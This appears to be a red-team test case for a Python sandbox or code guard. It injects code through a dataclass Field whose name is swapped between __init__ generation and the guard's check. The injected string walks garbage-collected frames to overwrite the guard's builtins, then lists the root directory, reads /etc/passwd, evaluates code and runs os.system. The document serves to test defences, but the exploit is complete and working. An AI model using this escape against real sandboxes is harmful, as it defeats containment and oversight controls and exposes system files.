# Technique (red team): a Field kept from a plain class is adopted by a dataclass subclass and renamed between the generator's text and the guard's check (init=T() runs __bool__ inside the generator)
# expect: policy.call
# guard: compile
from dataclasses import dataclass, field


class B:
    x: int = field(default=0, init=False, repr=False, compare=False)


f = B.x  # a Field object kept in a variable (B is no dataclass)


@dataclass
class C(B):
    x: int  # C's field x is B's Field object f


orig = f.name
evil = "x=0, **_k):\n import gc, os\n gc.set_debug(gc.DEBUG_SAVEALL)\n def cb(phase, info):\n  if phase == 'start':\n   try:\n    raise KeyError\n   except KeyError as e:\n    err = e\n gc.callbacks.append(cb)\n p = os.path.dirname(os.__file__) + '/os.py'\n for k in range(12):\n  gc.set_threshold(gc.get_count()[0] + k)\n  open(p).close()\n gc.set_threshold(700)\n gc.callbacks.remove(cb)\n gc.collect()\n for o in gc.garbage:\n  f = o if type(o).__name__ == 'frame' else None\n  while f is not None:\n   if 'busy' in f.f_locals and 'refuse' in f.f_locals:\n    f.f_builtins['type'] = len\n   f = f.f_back\n gc.garbage.clear()\n gc.set_debug(0)\n print(os.listdir('/'))\n print(open('/etc/passwd').read()[:120])\n print(eval('6*7'))\n import shutil\n print(shutil.which('sh'))\n print('system rc', os.system('echo hi'))\n return (lambda *a, **k: None)\ndef _y(*_z"
calls = [0]


class T:
    def __bool__(self):
        calls[0] += 1
        if calls[0] == 3:
            f.name = evil  # just before _init_fn builds its locals
        if calls[0] == 4:
            f.name = orig  # just before the guard checks the fields
        return True


@dataclass
class D(C):
    y: list = field(default_factory=list, init=T())
